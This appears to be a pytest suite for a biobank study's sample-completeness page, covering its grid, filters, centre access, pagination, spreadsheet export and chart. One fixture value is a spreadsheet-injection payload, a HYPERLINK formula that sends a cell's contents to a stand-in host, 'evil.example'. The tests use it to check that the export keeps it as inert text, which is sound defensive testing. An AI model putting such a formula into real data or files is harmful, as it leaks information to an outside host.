"""The completeness page: filters, the grid per centre, its spreadsheet and its chart."""

from __future__ import annotations

import html
import io
from datetime import UTC, date, datetime
from html.parser import HTMLParser

import openpyxl
import pytest

from biobank.monitoring import completeness_grid
from biobank.samples import services as samples
from biobank.samples.services import NotCollected
from tests import factories

PAGE = "/study/completeness"
NOTE = '=HYPERLINK("http://evil.example/?leak="&A2, "details")'


class Cells(HTMLParser):
    """The tube cells of the grid: (participant, visit, tube) → the cell's attributes and
    its text."""

    def __init__(self, page: str):
        super().__init__()
        self.cells: dict[tuple[str, str, str], dict] = {}
        self.participant = None
        self.cell = None
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "tr" and "data-participant" in attrs:
            self.participant = attrs["data-participant"]
        if tag == "td" and "data-status" in attrs:
            self.cell = {**attrs, "text": ""}
            self.cells[(self.participant, attrs["data-visit"], attrs["data-tube"])] = self.cell

    def handle_endtag(self, tag):
        if tag == "td":
            self.cell = None

    def handle_data(self, data):
        if self.cell is not None:
            self.cell["text"] += data


@pytest.fixture
def trial(db, sites):
    """LIM-001 (G2): baseline collected; at Month 2 the serum drawn and the plasma not,
    with a note that would be a formula in a spreadsheet. LIM-002 (G1), PAR-001 (G2):
    nothing yet."""
    factories.participant("LIM", "G2", code="LIM-001")
    factories.visit("LIM-001", "BL")
    samples.register_collection(
        "LIM-001",
        "M2",
        [factories.tube("SST", collected_at=datetime(2026, 3, 2, 8, 30, tzinfo=UTC))],
        actor=None,
        not_collected=[NotCollected("EDTA", "other", NOTE)],
    )
    factories.participant("LIM", "G1", code="LIM-002")
    factories.participant("PAR", "G2", code="PAR-001")
    db.session.commit()


def page_of(client, **query) -> str:
    answer = client.get(PAGE, query_string=query)
    assert answer.status_code == 200, answer.get_data(as_text=True)[:2000]
    return answer.get_data(as_text=True)


def test_each_tube_shows_its_state_as_a_colour_a_sign_words_and_a_tooltip(login_as, trial):
    text = page_of(login_as("manager"), as_of="2026-03-10")
    cells = Cells(text).cells

    baseline = cells[("LIM-001", "BL", "SST")]
    assert baseline["class"] == "tube state-collected"
    assert "✓" in baseline["text"] and "BL SST: collected" in baseline["text"]
    assert baseline["title"].splitlines() == [
        "BL · SST · collected",
        "window Dec 8, 2025 – Jan 5, 2026",
        "collected on Jan 5, 2026",
    ]
    not_drawn = cells[("LIM-001", "M2", "EDTA")]
    assert not_drawn["data-status"] == "not_collected"
    assert "other reason (see the note)" in not_drawn["title"]
    assert NOTE in not_drawn["title"]
    assert cells[("LIM-002", "M4", "SST")]["data-status"] == "not_expected"
    assert cells[("LIM-002", "BL", "EDTA")]["data-status"] == "missing"
    assert "!" in cells[("LIM-002", "BL", "EDTA")]["text"]
    assert cells[("PAR-001", "M4", "SST")]["data-status"] == "upcoming"
    assert 'href="/participants/LIM-001"' in text
    legend = ("collected", "not collected", "not expected", "upcoming", "due (window open)")
    for words in (*legend, "missing (window closed)"):
        assert f"</span> {words}</li>" in text  # the legend
    assert 'href="/study/completeness.xlsx?as_of=2026-03-10"' in text
    assert 'src="/study/completeness/chart.svg?as_of=2026-03-10"' in text


def test_the_counts_per_centre_and_visit_are_shown(login_as, trial):
    text = html.unescape(page_of(login_as("manager"), as_of="2026-03-10"))

    limoges = text.split('data-centre="LIM"')[1].split("</section>")[0]
    # Month 2 at LIM: the serum collected, the plasma not, LIM-002's two tubes missing.
    month_2 = [row.split("</th>")[1] for row in limoges.split("<tr>") if "</span> " in row]
    counts = {
        row_status: [cell.split("</td>")[0] for cell in row.split("<td>")[1:]]
        for row_status, row in zip(
            ("collected", "not_collected", "not_expected", "upcoming", "due", "missing"),
            month_2,
            strict=False,
        )
    }
    assert counts["collected"][:2] == ["2", "1"]
    assert counts["not_collected"][:2] == ["0", "1"]
    assert counts["missing"][:2] == ["2", "2"]


def test_the_filters_keep_a_centre_and_an_arm(login_as, trial):
    manager = login_as("manager")

    paris = Cells(page_of(manager, site="PAR", as_of="2026-03-10")).cells
    group_1 = Cells(page_of(manager, arm="G1", as_of="2026-03-10")).cells
    missing = Cells(page_of(manager, status="missing", as_of="2026-03-10")).cells

    assert {participant for participant, _, _ in paris} == {"PAR-001"}
    assert {participant for participant, _, _ in group_1} == {"LIM-002"}
    assert {cell["data-status"] for cell in missing.values()} == {"missing"}
    assert ("LIM-001", "BL", "SST") not in missing


def test_a_centre_user_never_sees_another_centre(login_as, trial):
    limoges = login_as("technician", site="LIM")

    text = page_of(limoges, as_of="2026-03-10")

    assert "PAR-001" not in text
    assert 'name="site"' not in text
    assert "PAR-001" not in page_of(limoges, site="PAR", as_of="2026-03-10")


@pytest.mark.parametrize(
    ("query", "field"),
    [({"as_of": "2026-02-30"}, "as_of"), ({"arm": "G9"}, "arm"), ({"status": "lost"}, "status")],
)
def test_a_bad_filter_is_named_on_the_page_and_nothing_is_listed(login_as, trial, query, field):
    text = html.unescape(page_of(login_as("manager"), **query))

    assert "1 field needs correcting: see below." in text
    section = text.split(f'name="{field}"')[0].rsplit('<div class="field', 1)[1]
    assert "has-error" in section
    assert "data-status" not in text


def test_a_centre_is_shown_a_page_of_participants_at_a_time(login_as, trial, monkeypatch):
    monkeypatch.setattr(completeness_grid, "ROWS_PER_PAGE", 1)
    manager = login_as("manager")

    first = html.unescape(page_of(manager, site="LIM", as_of="2026-03-10"))
    second = page_of(manager, site="LIM", as_of="2026-03-10", page=2)

    assert "Participants 1–1 of 2" in first
    assert {p for p, _, _ in Cells(first).cells} == {"LIM-001"}
    assert "page=2" in first
    assert {p for p, _, _ in Cells(second).cells} == {"LIM-002"}


def test_the_spreadsheet_has_one_row_per_tube_and_keeps_a_formula_as_text(login_as, trial):
    answer = login_as("manager").get(
        "/study/completeness.xlsx", query_string={"as_of": "2026-03-10"}
    )

    assert answer.status_code == 200
    assert answer.headers["Content-Disposition"] == (
        'attachment; filename="completeness-2026-03-10.xlsx"'
    )
    book = openpyxl.load_workbook(io.BytesIO(answer.data))
    rows = list(book.worksheets[0].iter_rows(values_only=True))
    assert rows[0][:6] == ("Participant", "Centre", "Arm", "Visit", "Tube type", "Status")
    assert len(rows) == 1 + 3 * 6 * 2
    by_tube = {row[:5]: row for row in rows[1:]}
    not_drawn = by_tube[("LIM-001", "LIM", "G2", "M2", "EDTA")]
    assert not_drawn[5] == "not collected"
    assert not_drawn[9] == "other reason (see the note)"
    assert not_drawn[10] == "'" + NOTE  # shown as text, never run
    baseline = by_tube[("LIM-001", "LIM", "G2", "BL", "SST")]
    assert baseline[6:9] == (datetime(2025, 12, 8), datetime(2026, 1, 5), datetime(2026, 1, 5))
    cell = next(c for c in book.worksheets[0]["K"] if c.value == "'" + NOTE)
    assert cell.data_type == "s"
    about = dict(book.worksheets[1].iter_rows(values_only=True))
    assert about["As of"] == datetime(2026, 3, 10)


def test_a_spreadsheet_with_a_bad_filter_sends_back_to_the_page_that_names_it(login_as, trial):
    answer = login_as("manager").get("/study/completeness.xlsx", query_string={"as_of": "x"})

    assert answer.status_code == 303
    assert answer.location.endswith("/study/completeness?as_of=x")


def test_the_chart_is_an_svg_drawn_the_same_way_twice(login_as, trial):
    manager = login_as("manager")

    first = manager.get("/study/completeness/chart.svg", query_string={"as_of": "2026-03-10"})
    again = manager.get("/study/completeness/chart.svg", query_string={"as_of": "2026-03-10"})

    assert first.status_code == 200
    assert first.mimetype == "image/svg+xml"
    assert first.headers["Content-Disposition"].startswith("inline;")
    picture = first.get_data(as_text=True)
    assert "<svg" in picture
    for words in ("LIM", "PAR", "collected", "missing", "M2", "Mar 10, 2026"):
        assert words in picture
    assert first.data == again.data


def test_the_menu_leads_to_the_page_and_a_researcher_is_kept_out(login_as, trial):
    assert 'href="/study/completeness"' in page_of(login_as("technician"), as_of="2026-03-10")
    assert login_as("researcher").get(PAGE).status_code == 403


def test_the_answer_day_is_shown(login_as, trial):
    text = page_of(login_as("manager"), as_of=date(2026, 3, 10).isoformat())

    assert "As of Mar 10, 2026." in text


def test_a_tube_handled_outside_the_sop_is_marked_and_says_why(login_as, trial, db):
    late = datetime(2026, 3, 2, 8, 30, tzinfo=UTC)
    factories.participant("LIM", "G2", code="LIM-009", included_on=date(2026, 1, 5))
    samples.register_collection(
        "LIM-009", "M2", [factories.tube("SST", collected_at=late, delay_hours=3)], actor=None
    )
    db.session.commit()
    cells = Cells(page_of(login_as("manager"), as_of="2026-03-10")).cells

    clotted_too_long = cells[("LIM-009", "M2", "SST")]
    assert clotted_too_long["data-status"] == "collected"
    assert "⚠" in clotted_too_long["text"]
    assert "outside the SOP" in clotted_too_long["text"]  # for screen readers
    assert "clotting 3 h" in clotted_too_long["title"]
    within = cells[("LIM-001", "BL", "SST")]
    assert "⚠" not in within["text"] and "outside the SOP" not in within["text"]
